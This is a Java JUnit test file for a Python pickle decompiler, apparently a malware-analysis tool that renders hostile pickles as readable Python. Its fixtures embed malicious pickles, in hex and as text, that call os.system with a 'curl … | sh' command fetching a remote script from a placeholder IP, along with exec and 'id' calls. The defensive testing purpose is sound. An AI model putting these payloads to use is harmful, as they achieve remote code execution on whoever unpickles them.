package dev.chainhunt.deobf.python;

import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

class PickleDecompilerTest {

    private static byte[] hex(String h) {
        return HexFormat.of().parseHex(h);
    }

    @Test
    void protocolTwoReduceBecomesTheCallItMakes() {
        // pickle.dumps(obj, 2) where obj.__reduce__ returns (os.system, ('curl … | sh',)); posix is os.
        String py = PickleDecompiler.decompile(hex("800263706f7369780a73797374656d0a710058240000006375726c202d7320687474703a2f2f"
                + "3230332e302e3131332e392f732e7368207c20736871018571025271032e"));
        assertThat(py).isEqualTo("import os\n_v1 = os.system('curl -s http://203.0.113.9/s.sh | sh')\n");
    }

    @Test
    void stackGlobalAndMemoReferencesAreFollowed() {
        // protocol 5: a list of two objects that both reduce to exec(CODE); the second reuses the memo.
        String py = PickleDecompiler.decompile(hex("80059548000000000000005d94288c086275696c74696e73948c04657865639493948c22696d"
                + "706f727420736f636b65740a736f636b65742e676574686f73746e616d6528299485945294680368055294652e"));
        assertThat(py).isEqualTo("_v1 = exec('import socket\\nsocket.gethostname()')\n"
                + "_v2 = exec('import socket\\nsocket.gethostname()')\n");
    }

    @Test
    void protocolZeroTextPickle() {
        String py = PickleDecompiler.decompile("cposix\nsystem\np0\n(Vcurl -s http://203.0.113.9/s.sh | sh\np1\ntp2\nRp3\n."
                .getBytes(StandardCharsets.ISO_8859_1));
        assertThat(py).contains("_v1 = os.system('curl -s http://203.0.113.9/s.sh | sh')");
    }

    @Test
    void dataRebuildsStayDataCalls() {
        // collections.OrderedDict([('a', 1.5), ('b', [1, 2, 3])]) at protocol 3.
        String py = PickleDecompiler.decompile(hex("800363636f6c6c656374696f6e730a4f726465726564446963740a71002952710128580100"
                + "0000617102473ff800000000000058010000006271035d7104284b014b024b0365752e"));
        assertThat(py).startsWith("import collections\n_v1 = collections.OrderedDict()\n")
                .contains("_v1.update({'a': 1.5, 'b': [1, 2, 3]})")
                .doesNotContain("os.");
    }

    @Test
    void dataWithoutCallsIsNotCode() {
        // pickle.dumps({'k': [1, 2]}, 4): no GLOBAL, no REDUCE.
        assertThat(PickleDecompiler.decompile(hex("80049510000000000000007d948c016b945d94284b014b0265732e"))).isNull();
        assertThat(PickleDecompiler.decompile(new byte[0])).isNull();
        assertThat(PickleDecompiler.decompile("not a pickle".getBytes(StandardCharsets.US_ASCII))).isNull();
    }

    @Test
    void largeArraysAreBoundedAndLinear() {
        // A list of 300,000 ints built with APPENDS batches, then one call: the call is still seen.
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x80, 4, ']'});
        for (int batch = 0; batch < 300; batch++) {
            out.write('(');
            for (int i = 0; i < 1000; i++) {
                out.write('K');
                out.write(i & 0xff);
            }
            out.write('e');
        }
        out.write('0'); // POP the list
        out.writeBytes("cos\nsystem\n".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {(byte) 0x8c, 2, 'i', 'd', (byte) 0x85, 'R', '.'});
        String py = PickleDecompiler.decompile(out.toByteArray());
        assertThat(py).isEqualTo("import os\n_v1 = os.system('id')\n");
    }

    @Test
    void repeatedReferencesToALargeValueStayBounded() {
        // A 60 KB string memoised once, then referenced 90,000 times in one tuple passed to a call.
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x80, 4});
        out.writeBytes("cos\nsystem\n".getBytes(StandardCharsets.US_ASCII));
        out.write('(');
        out.write('X');
        int n = 60_000;
        out.writeBytes(new byte[] {(byte) n, (byte) (n >> 8), 0, 0});
        out.writeBytes("A".repeat(n).getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {'q', 0});
        for (int i = 0; i < 90_000; i++) {
            out.writeBytes(new byte[] {'h', 0});
        }
        out.writeBytes(new byte[] {'t', 'R', '.'});
        String py = PickleDecompiler.decompile(out.toByteArray());
        assertThat(py).startsWith("import os\n_v1 = os.system(");
        assertThat(py.length()).isLessThan(PickleDecompiler.MAX_OUTPUT_CHARS);
    }

    @Test
    void arbitraryBytesNeverThrow() {
        Random random = new Random(7);
        for (int n = 0; n < 20_000; n++) {
            byte[] b = new byte[random.nextInt(64)];
            random.nextBytes(b);
            if (b.length > 1) {
                b[0] = (byte) 0x80;
                b[1] = 4;
            }
            String py = PickleDecompiler.decompile(b);
            if (py != null) {
                assertThat(py).contains("_v1 = ");
            }
        }
    }
}
